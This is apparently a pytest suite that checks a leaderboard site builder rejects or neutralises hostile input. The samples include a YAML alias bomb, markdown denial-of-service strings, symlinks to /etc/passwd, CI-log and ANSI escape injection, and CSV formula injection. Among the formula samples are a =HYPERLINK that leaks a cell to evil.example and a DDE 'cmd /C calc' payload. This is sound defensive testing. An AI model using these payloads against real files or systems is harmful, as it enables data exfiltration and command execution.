"""Hostile and outsized inputs, as a pull request from a stranger could bring them: every one ends in
one located, worded message, quickly and within memory, and the previous site stays as it was."""
from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path
from xml.etree import ElementTree

import pytest

from conftest import BOARD_YAML, MODELS_YAML, ROOT, build_in_process, demo_project, run_build, soup, tree_bytes
from test_errors import CSV, GOOD, JF, JGOOD, M, verdict

DIALOGUE = "demo/dialogues/long.yaml"
BOMB = "".join(['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'] +
               [f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]\n" for i in range(1, 9)])


def broken(tmp_path, capsys, *flags, **files):
    """Build a good project, break it with `files`, build again: (exit code, output lines, seconds), the
    site checked to be as it was."""
    scores = demo_project(tmp_path, GOOD)
    out = tmp_path / "site"
    assert build_in_process(capsys, "--scores", scores, "--out", out)[0] == 0
    before = tree_bytes(out)
    for name, content in files.items():
        path = scores / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    started = time.perf_counter()
    code, err = build_in_process(capsys, "--scores", scores, "--out", out, *flags)
    seconds = time.perf_counter() - started
    assert tree_bytes(out) == before
    return code, err.replace(str(tmp_path) + "/", "").splitlines(), seconds


def one_error(lines: list, expected: str) -> None:
    assert lines == [expected, "build failed: 1 error, 0 warnings; site was left as it was"], "\n".join(lines)


def dialogue(answer: str) -> str:
    return "dimension: code\nturns:\n  - prompt: Hi\n    responses:\n      alpha: " + json.dumps(answer) + "\n"


def test_an_alias_bomb_is_refused_at_once(tmp_path, capsys):
    # a model card whose extra keys are lists of lists of aliases: 9^9 values written out
    models = MODELS_YAML.lstrip("\n") + "- id: bomb\n  name: Bomb\n  group: open\n" + \
        "".join("  " + line for line in BOMB.splitlines(True)) + "  a9: [" + ",".join(["*a8"] * 9) + "]\n"
    code, lines, seconds = broken(tmp_path, capsys, **{"demo/models.yaml": models})
    assert code == 1 and seconds < 10
    one_error(lines, f"{M}: holds more than 1,000,000 values once its aliases are written out: write the values "
                     "themselves, or use fewer aliases of aliases")
    site = (tmp_path / "scores" / "site.yaml").read_text("utf-8")
    bomb = "x:\n" + "".join("  " + line for line in BOMB.splitlines(True)) + "? *a8\n: 1\n"   # a key of 43 million values
    code, lines, seconds = broken(tmp_path / "key", capsys, **{"site.yaml": site + bomb})
    assert code == 1 and seconds < 10
    one_error(lines, "scores/site.yaml:13:7: invalid YAML: a key that is a list or a mapping: keys are text")


def test_markdown_that_would_take_minutes_is_refused_where_it_stands(tmp_path, capsys):
    for name, answer, expected in (
            ("brackets", "[" * 30_000, 'has 30,000 "[" outside code blocks, where a text may have 1,000: put them '
                                       "in a ``` code block"),
            ("nested", "".join("    " * i + "- item\n" for i in range(60)),
             "is nested 59 levels deep (lists, quotes), where a text may be 50"),
            ("long", "x" * 250_000, "is 250,000 characters long, where a text may have 200,000")):
        code, lines, seconds = broken(tmp_path / name, capsys, **{DIALOGUE: dialogue(answer)})
        assert code == 1 and seconds < 10, name
        one_error(lines, f'scores/{DIALOGUE}:5: the answer of "alpha" {expected}')
    fenced = "```\n" + "[" * 5_000 + "\n```\n"                      # in a code block, brackets cost nothing
    scores = demo_project(tmp_path / "fenced", GOOD, **{DIALOGUE: dialogue(fenced)})
    assert build_in_process(capsys, "--scores", scores, "--out", tmp_path / "fenced" / "site")[0] == 0


def test_thousands_of_faults_print_fifty_lines_per_file_and_cost_seconds(tmp_path, capsys):
    models = "".join(f"- {{id: m{i:04d}, name: Model {i}, group: open}}\n" for i in range(1000))
    rows = "".join(f"m{i:04d},overall,50\n" for i in range(1000)) + "".join(f"mx{i:04d},overall,50\n" for i in range(4000))
    code, lines, seconds = broken(tmp_path, capsys, **{"demo/models.yaml": models + MODELS_YAML.lstrip("\n").split("- id: ref")[0]
                                                       .replace("- id: alpha", "- id: ref-model\n  name: R\n  group: ref\n- id: alpha"),
                                                       "demo/releases/2024-01-01.csv": "model,dimension,score\n" + rows})
    assert code == 1 and seconds < 20
    assert len(lines) == 52 and lines[-2] == f"{CSV}: and 3950 more errors and 0 more warnings in this file, not shown"
    assert lines[-1] == "build failed: 4000 errors, 0 warnings; site was left as it was"
    assert lines[0] == f'{CSV}:1002:1: unknown model "mx0000": expected an id or alias from models.yaml (did you mean "m0000"?)'


def test_a_csv_of_a_million_duplicate_rows_is_bounded_in_output_and_memory(tmp_path):
    scores = demo_project(tmp_path, "model,dimension,score\n" + "alpha,overall,50\n" * 1_000_000)
    code = ("import resource, sys; sys.path.insert(0, sys.argv[1]); from leaderboard import cli; c = cli.main(sys.argv[2:]); "
            "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr); sys.exit(c)")
    result = subprocess.run([sys.executable, "-c", code, str(ROOT), "--scores", str(scores), "--out", str(tmp_path / "site")],
                            capture_output=True, text=True, timeout=300)
    lines = result.stderr.replace(str(tmp_path) + "/", "").splitlines()
    assert result.returncode == 1 and len(lines) == 53
    assert lines[50] == f"{CSV}: and 999949 more errors and 0 more warnings in this file, not shown"
    assert int(lines[-1]) < 1_500_000   # peak memory in KB: under 1.5 GB


def test_files_too_big_or_not_regular_are_refused_without_being_read(tmp_path, capsys):
    scores = demo_project(tmp_path, GOOD)
    big = scores / "demo" / "releases" / "2024-02-01.csv"
    with open(big, "wb") as sparse:   # 300 MB that take no room on the disk
        sparse.truncate(300 << 20)
    fifo = scores / "demo" / "dialogues" / "pipe.yaml"
    fifo.parent.mkdir()
    os.mkfifo(fifo)
    (scores / "demo" / "dialogues" / "zero.yaml").symlink_to("/dev/zero")
    (scores / "demo" / "releases" / "2024-03-01.csv").symlink_to("/etc/passwd")
    (scores / "demo" / "dialogues" / "gone.yaml").symlink_to(scores / "nowhere.yaml")
    (scores / "demo" / "dialogues" / ".#reverse.yaml").symlink_to("user@host.1234:1700000000")   # an editor's lock
    started = time.perf_counter()
    code, err = build_in_process(capsys, "--scores", scores, "--out", tmp_path / "site")
    assert time.perf_counter() - started < 20
    lines = err.replace(str(tmp_path) + "/", "").splitlines()
    assert lines == [
        "scores/demo/dialogues/gone.yaml: a link to nothing: remove it",
        "scores/demo/dialogues/pipe.yaml: not a regular file (a FIFO): not read",
        "scores/demo/dialogues/zero.yaml: a link to /dev/zero, outside scores/: not read (copy the file in instead)",
        "scores/demo/releases/2024-02-01.csv: too big: 300 MB, where a .csv file may have 128 MB",
        "scores/demo/releases/2024-03-01.csv: a link to /etc/passwd, outside scores/: not read (copy the file in instead)",
        "build failed: 5 errors, 0 warnings; site was left as it was"]
    assert "root:" not in err


def test_a_board_linked_in_from_inside_is_read_and_watched_and_one_from_outside_refused(tmp_path, capsys):
    scores = demo_project(tmp_path, GOOD)
    kept = scores / ".kept"                                    # a board folder kept elsewhere inside scores/
    (scores / "demo").rename(kept)
    (scores / "demo").symlink_to(kept)
    out = tmp_path / "site"
    assert build_in_process(capsys, "--scores", scores, "--out", out)[0] == 0
    csv = kept / "releases" / "2024-01-01.csv"
    csv.write_text(csv.read_text("utf-8").replace("alpha,overall,50", "alpha,overall,57"), "utf-8")
    code, err = build_in_process(capsys, "--scores", scores, "--out", out)
    assert code == 0 and "up to date" not in err
    assert 'data-value="57.0"' in (out / "demo" / "index.html").read_text("utf-8")
    from leaderboard.serve import snapshot
    before = snapshot(scores)
    csv.write_text(csv.read_text("utf-8").replace("alpha,overall,57", "alpha,overall,58"), "utf-8")
    assert snapshot(scores) != before                          # --serve sees the change too
    outside = tmp_path / "elsewhere"
    kept.rename(outside)
    (scores / "demo").unlink()
    (scores / "demo").symlink_to(outside)
    code, err = build_in_process(capsys, "--scores", scores, "--out", out)
    lines = err.replace(str(tmp_path) + "/", "").splitlines()
    assert code == 1 and lines[0] == ("scores/demo: a link to elsewhere, outside scores/: not read (copy the file "
                                      "in instead)")


def test_input_text_cannot_write_to_a_ci_log_or_a_terminal(tmp_path, capsys):
    row = 'alpha,overall,50\n"x\n::error file=a.py::owned\x1b[2K\x1b[1Gbuild ok",overall,1\n'
    code, lines, _ = broken(tmp_path, capsys, **{"demo/releases/2024-01-01.csv": "model,dimension,score\n" + row})
    assert code == 1
    assert not any(line.startswith("::") or "\x1b" in line for line in lines)
    one_error(lines, f'{CSV}:3:1: unknown model "x\\n::error file=a.py::owned\\u001b[2K\\u001b[1Gbuild ok": expected an id '
                     "or alias from models.yaml")


def test_control_and_bidi_characters_never_reach_a_page(tmp_path, capsys):
    models = MODELS_YAML.lstrip("\n").replace("  name: Beta\n", '  name: "Be\\0t\\aa\\e[31m\u202e"\n  description: '
                                              '"tab\\there \\x1b[2J and \u2066isolate\u2069"\n')
    scores = demo_project(tmp_path, GOOD, **{"demo/models.yaml": models})
    assert build_in_process(capsys, "--scores", scores, "--out", tmp_path / "site")[0] == 0
    for page in [*(tmp_path / "site").rglob("*.html"), *(tmp_path / "site").rglob("*.xml"), *(tmp_path / "site").rglob("*.svg")]:
        text = page.read_text("utf-8")
        assert not any(c in text for c in "\x00\x07\x1b\u202e\u2066\u2069"), page
        if page.suffix != ".html":   # the feeds and badges stay readable XML
            ElementTree.fromstring(text.encode("utf-8"))
    badge = ElementTree.parse(tmp_path / "site" / "demo" / "badges" / "beta.svg").getroot()
    assert badge.find("{http://www.w3.org/2000/svg}title").text.startswith("Beta[31m: ")
    assert "Beta[31m" in (tmp_path / "site" / "demo" / "models" / "beta" / "index.html").read_text("utf-8")
    record = json.loads((tmp_path / "site" / "demo" / "data" / "2024-01-01.json").read_text("utf-8"))
    assert {m["id"]: m["name"] for m in record["models"]}["beta"] == "Be\x00t\x07a\x1b[31m\u202e"   # the data as given


@pytest.mark.parametrize("files,expected", [
    ({"demo/pages/about.md": "---\ntitle: t\norder: " + "9" * 5000 + "\n---\nx\n"},
     "scores/demo/pages/about.md:3:8: invalid YAML: a whole number of thousands of digits: no board needs one"),
    ({"demo/board.yaml": BOARD_YAML.lstrip("\n").replace("range: [0, 100]", "range: [0, 1e308]")},
     'scores/demo/board.yaml:5: "range" must be [low, high] with two numbers, low < high (null for an open end), '
     "found a list"),
    ({"demo/releases/2024-01-01.csv": GOOD.replace("beta,overall,40", "beta,overall,1e300")},
     f'{CSV}:3:14: score "1e300" is not a number (finite, at most 10^12 in size)'),
    ({"demo/pages/about.md": "---\ntitle: t\norder: " + "9" * 400 + "\n---\nx\n"},
     'scores/demo/pages/about.md:3: "order" must be a number (at most 10^12 in size), found a number "' + "9" * 400 + '"'),
    ({"demo/judgments/2024-01-01.jsonl": verdict(judge_reason="x").replace('"x"', '"\\ud800"'),
      "demo/releases/2024-01-01.csv": JGOOD},
     f"{JF}:1: text with an unpaired surrogate (such as \\ud800): not Unicode text"),
    ({"demo/models.yaml": MODELS_YAML.lstrip("\n").replace("name: Beta", 'name: "Be\\ud800ta"')},
     f"{M}:6:14: invalid YAML: found invalid Unicode character escape code"),
], ids=["5000 digits", "range to 1e308", "score of 1e300", "400 digits", "surrogate in JSON", "surrogate in YAML"])
def test_numbers_and_text_at_the_edges_are_located_errors(tmp_path, capsys, files, expected):
    code, lines, _ = broken(tmp_path, capsys, **files)
    assert code == 1
    one_error(lines, expected)


def test_an_output_that_cannot_be_written_is_a_worded_error(tmp_path, capsys, monkeypatch):
    scores = demo_project(tmp_path, GOOD)
    (tmp_path / "afile").write_text("x")
    code, err = build_in_process(capsys, "--scores", scores, "--out", tmp_path / "afile" / "site")
    assert code == 1 and err.replace(str(tmp_path) + "/", "").splitlines() == [
        "afile/site: not written: it is inside afile, which is a file, not a folder: choose another --out",
        "build failed: 1 error, 0 warnings; afile/site was left as it was"]
    out = tmp_path / "site"
    assert build_in_process(capsys, "--scores", scores, "--out", out)[0] == 0
    before = tree_bytes(out)
    (scores / "demo" / "releases" / "2024-01-01.csv").write_text(GOOD.replace(",50\n", ",51\n"), "utf-8")
    real, written = Path.write_bytes, []

    def full(self, data):   # the disk fills up after a few files
        if len(written) > 5:
            raise OSError(28, "No space left on device", str(self))
        written.append(self)
        return real(self, data)
    monkeypatch.setattr(Path, "write_bytes", full)
    code, err = build_in_process(capsys, "--scores", scores, "--out", out)
    monkeypatch.undo()
    lines = err.replace(str(tmp_path) + "/", "").splitlines()
    assert code == 1 and lines[0].startswith("site: cannot write the site: No space left on device (")
    assert lines[1:] == ["build failed: 1 error, 0 warnings; site was left as it was"]
    assert tree_bytes(out) == before and not any(tmp_path.glob(".site.staging*"))


def test_names_that_start_like_formulas_are_inert_in_csvs_and_exact_in_json(tmp_path, capsys):
    names = {"alpha": '=HYPERLINK("https://evil.example/?leak="&A1,"Alpha")', "beta": "+cmd|' /C calc'!A0",
             "gamma": "@SUM(1+1)"}
    models = MODELS_YAML.lstrip("\n")
    for model_id, name in names.items():
        models = models.replace(f"  name: {model_id.title()}\n", f"  name: {json.dumps(name)}\n")
    scores = demo_project(tmp_path, GOOD, **{"demo/models.yaml": models})
    code, err = build_in_process(capsys, "--scores", scores, "--out", tmp_path / "site")
    assert code == 0
    warned = [line for line in err.replace(str(tmp_path) + "/", "").splitlines() if "spreadsheet formula" in line]
    assert len(warned) == 3 and warned[0].startswith(f"{M}:2: warning: name \"=HYPERLINK(")
    import csv
    rows = list(csv.DictReader((tmp_path / "site" / "demo" / "data" / "2024-01-01.csv").read_text("utf-8-sig").splitlines()))
    assert {r["model"]: r["name"] for r in rows if r["model"] in names} == {k: "'" + v for k, v in names.items()}
    record = json.loads((tmp_path / "site" / "demo" / "data" / "2024-01-01.json").read_text("utf-8"))
    assert {m["id"]: m["name"] for m in record["models"] if m["id"] in names} == names


def test_a_page_named_main_does_not_take_the_pages_own_id(tmp_path, capsys):
    scores = demo_project(tmp_path, GOOD, **{"demo/pages/main.md": "---\ntitle: Main\norder: 1\n---\nBody\n"})
    assert build_in_process(capsys, "--scores", scores, "--out", tmp_path / "site", "--strict")[0] == 0
    page = soup(tmp_path / "site" / "demo" / "index.html")
    ids = [element["id"] for element in page.find_all(id=True)]
    assert len(ids) == len(set(ids)) and "page-main" in ids


def test_a_port_out_of_range_is_a_usage_error():
    result = run_build("--serve", "--port", "99999")
    assert result.returncode == 2 and "'99999' is not a port: a whole number from 1 to 65535" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_word_of_three_hundred_letters_never_pushes_a_phone_page_sideways(tmp_path, capsys):
    from playwright.sync_api import sync_playwright
    from conftest import served
    from test_browser import ARGS, CHROMIUM
    word = "W" * 300
    models = MODELS_YAML.lstrip("\n").replace("  name: Alpha\n", f"  name: {word}\n  org: {word}\n  description: {word}\n"
                                              f"  params: 7B\n  base_model: {word}\n  license: {word}\n  tags: [w]\n")
    board = BOARD_YAML.lstrip("\n").replace("title: {zh: 演示榜, en: Demo board}",
                                             f"title: {word}\nsummary: {word}\ntags: [{{id: w, name: {word}}}]") \
        .replace("name: {zh: 代码, en: Code}", f"name: {word}\n    description: {word}")
    dialogue_file = (f"title: {word}\nsection: {word}\ndimension: code\nturns:\n  - prompt: {word}\n    responses:\n"
                     f"      alpha: {word}\n      beta: ok\nreference_answer: {word}\ncommentary: {word}\n")
    scores = demo_project(tmp_path, GOOD, **{"demo/models.yaml": models, "demo/board.yaml": board,
                                             "demo/dialogues/long.yaml": dialogue_file,
                                             "demo/pages/about.md": f"---\ntitle: {word}\norder: 1\n---\n{word}\n"})
    assert build_in_process(capsys, "--scores", scores, "--out", tmp_path / "site")[0] == 0
    with served(tmp_path / "site") as base, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = browser.new_page(viewport={"width": 375, "height": 812})
        for path in ("", "demo/models/alpha/", "demo/dialogues/", "demo/dialogues/long/", "demo/dimensions/code/",
                     "demo/compare/", "demo/changelog/", "en/demo/"):
            page.goto(base + path)
            assert page.evaluate("document.documentElement.scrollWidth") <= 375, path
        browser.close()
